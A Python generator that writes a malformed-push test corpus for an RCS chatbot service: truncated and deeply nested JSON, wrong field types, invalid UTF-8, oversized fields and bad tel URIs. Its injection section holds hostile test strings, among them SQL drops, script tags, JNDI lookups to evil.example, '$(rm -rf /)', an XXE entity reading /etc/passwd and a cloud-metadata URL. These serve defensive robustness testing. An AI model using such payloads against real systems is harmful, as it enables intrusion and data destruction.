#!/usr/bin/env python3
"""Writes the malformed-push corpus (issue 6): the files beside this script and manifest.tsv.

Run once (python3 generate.py) and commit the output; the tests read the files, not this script.
Each line of manifest.tsv: file, expected outcome, HTTP content type, messageId, phone, what it is.
  refused: the service answers 4xx and stores nothing;
  stored:  a message that is odd but valid (injection text, unknown content types, huge but allowed
           text...): the service answers 204, stores it once and answers the resident.
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
CHATBOT = "sip:12345@botplatform.rcs.example.cn"
entries = []
counter = [0]


def phone(n):
    return "tel:+861360%07d" % n


def base(n, text="小区门口的路灯坏了"):
    return {
        "messageId": "malformed-%04d" % n,
        "messageList": [{"contentType": "text/plain", "contentText": text}],
        "dateTime": "2026-06-08T19:42:20.840+08:00",
        "destinationAddress": CHATBOT,
        "senderAddress": phone(n),
        "conversationId": "c-malformed-%04d" % n,
        "contributionId": "k-malformed-%04d" % n,
    }


def add(category, what, expect, body, content_type="application/json", ext="json"):
    counter[0] += 1
    n = counter[0]
    name = "%03d-%s.%s" % (n, category, ext)
    if callable(body):
        body = body(n)
    if isinstance(body, (dict, list)):
        try:
            data = json.dumps(body, ensure_ascii=False).encode("utf-8")
        except UnicodeEncodeError:  # a lone surrogate can only travel as a \u escape
            data = json.dumps(body).encode("utf-8")
    elif isinstance(body, str):
        data = body.encode("utf-8")
    else:
        data = body
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
    entries.append((name, expect, content_type, "malformed-%04d" % n, phone(n), what))


def with_field(path, value, drop=False):
    def make(n):
        b = base(n)
        target = b
        for key in path[:-1]:
            target = target[key]
        if drop:
            del target[path[-1]]
        else:
            target[path[-1]] = value
        return b
    return make


# --- truncated JSON: a valid push cut short at many places ---
for cut in [1, 2, 5, 10, 17, 25, 40, 60, 80, 100, 130, 160, 190, 220, 250, 280, 310, 340, -30, -10, -3, -2, -1]:
    add("truncated", "a valid push cut at byte %d" % cut, "refused",
        lambda n, cut=cut: json.dumps(base(n), ensure_ascii=False).encode("utf-8")[:cut])
add("truncated", "an unterminated string", "refused",
    lambda n: json.dumps(base(n), ensure_ascii=False).replace('"c-malformed', '"c-malformed\\', 1))
add("truncated", "an open array at the end", "refused", lambda n: json.dumps(base(n))[:-1] + ', "x": [')

# --- deeply nested JSON ---
for depth in [33, 50, 100, 1000, 20000]:
    add("nested", "contentText nested %d objects deep" % depth, "refused",
        lambda n, d=depth: json.dumps(base(n))[:-1] + ', "extra": ' + '{"a":' * d + '1' + '}' * d + '}')
    add("nested", "the whole body inside %d arrays" % depth, "refused",
        lambda n, d=depth: '[' * d + json.dumps(base(n)) + ']' * d)
for depth in [33, 200]:
    add("nested", "messageList items nested %d deep" % depth, "refused",
        lambda n, d=depth: json.dumps(base(n)).replace('"messageList": [', '"messageList": ' + '[' * d, 1)
        .replace('}], "dateTime"', '}' + ']' * d + ', "dateTime"', 1))
add("nested", "contentText a JSON suggestion nested 40 deep", "refused", lambda n: {
    **base(n), "messageList": [{"contentType": "application/vnd.gsma.botsuggestion.response.v1.0+json",
                                "contentText": '{"response":' * 40 + '{}' + '}' * 40}]})
add("nested", "nesting within the limit but the wrong shape", "refused",
    lambda n: {**base(n), "messageList": [[[[{"contentType": "text/plain", "contentText": "x"}]]]]})

# --- wrong types in every field ---
WRONG = {"number": 42, "float": 3.5, "true": True, "null": None, "array": ["x"], "object": {"a": "b"}, "empty": ""}
FIELDS = {
    "messageId": ["messageId"], "senderAddress": ["senderAddress"], "destinationAddress": ["destinationAddress"],
    "conversationId": ["conversationId"], "contributionId": ["contributionId"], "dateTime": ["dateTime"],
    "messageList": ["messageList"], "contentType": ["messageList", 0, "contentType"],
    "contentText": ["messageList", 0, "contentText"],
}
for field, path in FIELDS.items():
    for kind, value in WRONG.items():
        # an empty text is odd but harmless: stored and answered like any text
        expect = "stored" if (field, kind) == ("contentText", "empty") else "refused"
        add("wrong-type", "%s is %s" % (field, kind), expect, with_field(path, value))
for kind, value in WRONG.items():
    # inReplyTo is optional: null is fine, anything but a non-empty string is refused
    add("wrong-type", "inReplyTo is %s" % kind, "stored" if value is None else "refused", with_field(["inReplyTo"], value))
    # contentEncoding other than "base64" is ignored: the text is read as it is
    add("wrong-type", "contentEncoding is %s" % kind, "stored", with_field(["messageList", 0, "contentEncoding"], value))
for field in ["messageId", "senderAddress", "destinationAddress", "conversationId", "contributionId", "dateTime", "messageList"]:
    add("missing", "%s is missing" % field, "refused", with_field([field], None, drop=True))
for field in ["contentType", "contentText"]:
    add("missing", "messageList[0].%s is missing" % field, "refused", with_field(["messageList", 0, field], None, drop=True))
for kind, body in {"array": [1, 2], "string": "hello", "number": 12345, "true": True, "null": None}.items():
    add("not-an-object", "the body is a JSON %s" % kind, "refused", json.dumps(body))
add("not-an-object", "an empty body", "refused", b"")
add("not-an-object", "only whitespace", "refused", b"  \r\n\t ")
add("not-an-object", "XML instead of JSON", "refused", "<msg><text>路灯坏了</text></msg>", "application/xml")
add("not-an-object", "form encoding instead of JSON", "refused", "messageId=1&text=hi", "application/x-www-form-urlencoded")
add("not-an-object", "two JSON documents", "refused", lambda n: json.dumps(base(n)) + json.dumps(base(n)))
add("not-an-object", "a JSON comment", "refused", lambda n: "/* hi */" + json.dumps(base(n)))
add("not-an-object", "single quotes", "refused", lambda n: json.dumps(base(n)).replace('"', "'"))
add("not-an-object", "a trailing comma", "refused", lambda n: json.dumps(base(n))[:-1] + ",}")
add("not-an-object", "NaN as a value", "refused", lambda n: json.dumps(base(n))[:-1] + ', "x": NaN}')
add("not-an-object", "an unescaped control character in a string", "refused",
    lambda n: json.dumps(base(n), ensure_ascii=False).replace("路灯", "路\x01灯"))
add("not-an-object", "a UTF-8 byte order mark before a valid push (tolerated)", "stored",
    lambda n: b"\xef\xbb\xbf" + json.dumps(base(n), ensure_ascii=False).encode("utf-8"))
add("not-an-object", "messageList is empty", "refused", with_field(["messageList"], []))
add("not-an-object", "messageList[0] is a string", "refused", with_field(["messageList"], ["text"]))

# --- huge strings ---
add("huge", "a 100,000-character text (allowed; the platform's own limit is its business)", "stored",
    lambda n: base(n, "长" * 100_000))
add("huge", "a 200,000-character ASCII text", "stored", lambda n: base(n, "a" * 200_000))
add("huge", "a body just over 1 MiB", "refused", lambda n: base(n, "字" * 350_000))
for field, limit in [("messageId", 128), ("senderAddress", 64), ("conversationId", 256), ("contributionId", 256),
                     ("dateTime", 64), ("destinationAddress", 256)]:
    add("huge", "%s of %d characters" % (field, limit + 1), "refused", with_field([field], "9" * (limit + 1)))
    add("huge", "%s of 100,000 characters" % field, "refused", with_field([field], "x" * 100_000))
add("huge", "inReplyTo of 100,000 characters", "refused", with_field(["inReplyTo"], "r" * 100_000))
add("huge", "contentType of 10,000 characters", "refused", with_field(["messageList", 0, "contentType"], "t" * 10_000))
add("huge", "a suggestion whose postback is 5,000 characters", "refused", lambda n: {
    **base(n), "messageList": [{"contentType": "application/vnd.gsma.botsuggestion.response.v1.0+json",
                                "contentText": {"response": {"reply": {"displayText": "好", "postback": {"data": "p" * 5000}}}}}]})
add("huge", "a suggestion whose displayText is 1,000 characters", "refused", lambda n: {
    **base(n), "messageList": [{"contentType": "application/vnd.gsma.botsuggestion.response.v1.0+json",
                                "contentText": {"response": {"reply": {"displayText": "好" * 1000, "postback": {"data": "x"}}}}}]})
add("huge", "40,000 extra fields (ignored)", "stored", lambda n: json.dumps(base(n))[:-1] + "".join(', "f%d": %d' % (i, i) for i in range(40_000)) + "}")
add("huge", "a number with 5,000 digits (over the parser's limit)", "refused", lambda n: json.dumps(base(n))[:-1] + ', "big": ' + "9" * 5000 + "}")
add("huge", "a messageList of 5,000 items (the first is read)", "stored",
    lambda n: {**base(n), "messageList": [{"contentType": "text/plain", "contentText": "路灯坏了"}] * 5_000})

# --- invalid UTF-8 ---
def broken(raw):
    return lambda n: json.dumps(base(n, "@@"), ensure_ascii=False).encode("utf-8").replace(b"@@", raw)

for what, raw in [("a lone continuation byte", b"\x80"), ("an invalid start byte 0xFF", b"\xff"),
                  ("0xFE", b"\xfe"), ("a two-byte sequence cut short", b"\xc3"),
                  ("a two-byte sequence with a bad second byte", b"\xc3\x28"),
                  ("a three-byte sequence cut short", b"\xe8\xb7"),
                  ("a four-byte sequence cut short", b"\xf0\x9f\x98"),
                  ("an overlong slash", b"\xc0\xaf"), ("an overlong NUL", b"\xc0\x80"),
                  ("a code point above U+10FFFF", b"\xf4\x90\x80\x80"),
                  ("a five-byte sequence", b"\xf8\x88\x80\x80\x80"),
                  ("Chinese in GBK, not UTF-8", "路灯坏了".encode("gbk")),
                  ("Chinese in Big5", "路燈壞了".encode("big5")),
                  ("Latin-1 accents", "café".encode("latin-1")),
                  ("an encoded surrogate (CESU-8)", b"\xed\xa0\x80")]:
    add("invalid-utf8", what, "refused", broken(raw), "application/json; charset=utf-8", "bin")
add("invalid-utf8", "a UTF-16 body", "refused", lambda n: json.dumps(base(n), ensure_ascii=False).encode("utf-16"),
    "application/json", "bin")
add("invalid-utf8", "invalid bytes in the senderAddress", "refused",
    lambda n: json.dumps(base(n)).encode("utf-8").replace(b"tel:+", b"tel:\xff+"), "application/json", "bin")
add("invalid-utf8", "invalid bytes in a key", "refused",
    lambda n: json.dumps(base(n)).encode("utf-8").replace(b'"dateTime"', b'"date\xfeTime"'), "application/json", "bin")

# --- unknown content types (the message's, and the HTTP header's) ---
for ctype in ["application/x-unknown", "image/png", "text/html", "application/vnd.gsma.rcs-unknown+json",
              "TEXT/PLAIN", "text/plain; charset=gbk", "application/octet-stream", "video/mp4", "audio/amr",
              "application/vnd.gsma.botsharedclientdata.v1.0+json", "*/*", "x"]:
    add("content-type", "message content type %s" % ctype, "stored",
        with_field(["messageList", 0, "contentType"], ctype))
for header in ["text/plain", "text/xml", "application/octet-stream", "multipart/form-data; boundary=xyz",
               "application/x-www-form-urlencoded", "image/jpeg", "application/json; charset=iso-8859-1",
               "application/unknown", ""]:
    add("content-type", "HTTP Content-Type %r on a valid push" % header, "stored", base, header or "-")
add("content-type", "a suggestion response that is not JSON", "refused",
    lambda n: {**base(n), "messageList": [{"contentType": "application/vnd.gsma.botsuggestion.response.v1.0+json",
                                           "contentText": "{not json"}]})
add("content-type", "a suggestion response with neither reply nor action", "refused",
    lambda n: {**base(n), "messageList": [{"contentType": "application/vnd.gsma.botsuggestion.response.v1.0+json",
                                           "contentText": {"response": {}}}]})
add("content-type", "a file message without a file part", "refused",
    lambda n: {**base(n), "messageList": [{"contentType": "application/vnd.gsma.rcs-ft-http",
                                           "contentText": [{"type": "thumbnail", "url": "http://x"}]}]})
add("content-type", "a file message that is an object, not a list", "refused",
    lambda n: {**base(n), "messageList": [{"contentType": "application/vnd.gsma.rcs-ft-http",
                                           "contentText": {"type": "file"}}]})
add("content-type", "a file from a host that is not the platform's (stored; the file is not fetched)", "stored",
    lambda n: {**base(n), "messageList": [{"contentType": "application/vnd.gsma.rcs-ft-http", "contentText": [
        {"type": "file", "url": "http://169.254.169.254/latest/meta-data/", "fileName": "../../etc/passwd",
         "contentType": "image/jpeg", "fileSize": 10}]}]})
add("content-type", "base64 content that is not base64", "refused",
    lambda n: {**base(n), "messageList": [{"contentType": "text/plain", "contentEncoding": "base64",
                                           "contentText": "!!!not base64!!!"}]})
add("content-type", "base64 content that is fine", "stored",
    lambda n: {**base(n), "messageList": [{"contentType": "text/plain", "contentEncoding": "base64",
                                           "contentText": "6Lev54Gv5Z2P5LqG"}]})

# --- bad tel URIs ---
for tel in ["tel:", "tel:+", "13800138000", "+8613800138000", "tel:+86 138 0013 8000", "tel:+86-138-0013-8000",
            "tel:+8613800138000;ext=1", "tel:+8613800138000\n", " tel:+8613800138000", "TEL:+8613800138000",
            "tel:+861380013800012345678901", "tel:abc", "tel:+８６１３８００１３８０００", "sip:+8613800138000@ims.example.cn",
            "mailto:resident@example.cn", "tel:+86138<script>", "tel:+8613800138000' or '1'='1", "tel:12",
            "tel:%2B8613800138000", "http://evil.example/tel:+8613800138000"]:
    add("bad-tel", "senderAddress %r" % tel, "refused", with_field(["senderAddress"], tel))
add("bad-tel", "dateTime without an offset", "refused", with_field(["dateTime"], "2026-06-08T19:42:20"))
add("bad-tel", "dateTime that is not a time", "refused", with_field(["dateTime"], "yesterday"))
add("bad-tel", "dateTime as Unix seconds", "refused", with_field(["dateTime"], "1780000000"))

# --- injection text: odd but valid, stored and answered like any message ---
for what, text in [
        ("SQL", "'; drop table resident; --"), ("SQL union", "1' union select token from platform_token --"),
        ("HTML script", "<script>alert(document.cookie)</script>"), ("HTML image", '<img src=x onerror="alert(1)">'),
        ("a template", "{{7*7}} ${7*7} #{7*7} {resident.phone}"), ("JNDI lookup", "${jndi:ldap://evil.example/a}"),
        ("format strings", "%s%s%s%n%x %d"), ("CRLF", "路灯\r\nSet-Cookie: a=b\r\n\r\n坏了"),
        ("shell", "$(rm -rf /) `reboot` && shutdown"), ("JSON in text", '{"messageId":"other","senderAddress":"tel:+1"}'),
        ("a path", "../../../../etc/passwd"), ("right-to-left override", "路灯\u202e坏了\u202c"),
        ("zero-width characters", "路\u200b灯\u200d坏\ufeff了"), ("emoji", "🚨💡❌ 路灯坏了 👍🏽"),
        ("a NUL character", "路灯\u0000坏了"), ("control characters", "\u0007\u0008\u001b[31m红色\u001b[0m"),
        ("a lone surrogate", "\ud800路灯"), ("Markdown and links", "[点这里](javascript:alert(1)) **粗体**"),
        ("a command word in injection", "菜单'; --"), ("LDAP", "*)(uid=*))(|(uid=*"),
        ("XML entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
        ("a very long line of digits", "1" * 5000), ("only spaces", "     "), ("a typed option number", "99"),
        ("a geo URI out of range", "geo:123.4,500.1;crs=gcj02"), ("a geo URI with script", "geo:22.5,114.0;rcs-l=%3Cscript%3E"),
        ("Unicode normalisation", "ｍｅｎｕ ０"), ("mixed scripts", "Привет مرحبا 你好 こんにちは"),
        ("a billion laughs in text", "&lol9;" * 100), ("backslashes", "\\\\server\\share\\..\\x")]:
    add("injection", "text with %s" % what, "stored", lambda n, t=text: base(n, t))
for field, value in [("conversationId", "'; delete from inbound_message; --"), ("contributionId", "<script>x</script>"),
                     ("inReplyTo", "${jndi:ldap://evil.example/b}"), ("destinationAddress", "sip:other@evil.example")]:
    add("injection", "%s with injection text" % field, "stored", with_field([field], value))
add("injection", "a suggestion whose postback is SQL", "stored", lambda n: {
    **base(n), "messageList": [{"contentType": "application/vnd.gsma.botsuggestion.response.v1.0+json",
                                "contentText": {"response": {"reply": {"displayText": "确认'--",
                                                                        "postback": {"data": "opt:x'; drop table service_case; --"}}}}}]})
add("injection", "duplicate keys (the last one counts)", "stored",
    lambda n: json.dumps(base(n))[:-1] + ', "senderAddress": "%s"}' % phone(n))
add("injection", "unknown extra fields", "stored", lambda n: {**base(n), "admin": True, "__proto__": {"x": 1}})

with open(os.path.join(HERE, "manifest.tsv"), "w", encoding="utf-8") as f:
    f.write("# file\texpect\tcontent-type\tmessageId\tphone\twhat (written by generate.py)\n")
    for e in entries:
        f.write("\t".join(e[:5]) + "\t" + e[5].replace("\t", " ").replace("\n", "\\n").replace("\r", "\\r") + "\n")
print(len(entries), "pushes")
